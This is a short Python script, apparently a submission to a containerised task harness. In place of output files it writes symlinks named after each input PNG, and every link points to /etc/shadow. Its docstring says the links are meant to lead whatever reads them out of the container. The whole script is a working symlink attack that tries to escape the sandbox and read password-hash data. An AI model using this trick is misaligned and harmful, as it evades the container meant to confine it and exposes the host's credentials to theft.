"""Answers with links instead of files, in the hope that the reader follows them out of the container."""

from pathlib import Path

for path in sorted(Path("/input").glob("*.png")):
    (Path("/output") / path.name).symlink_to("/etc/shadow")
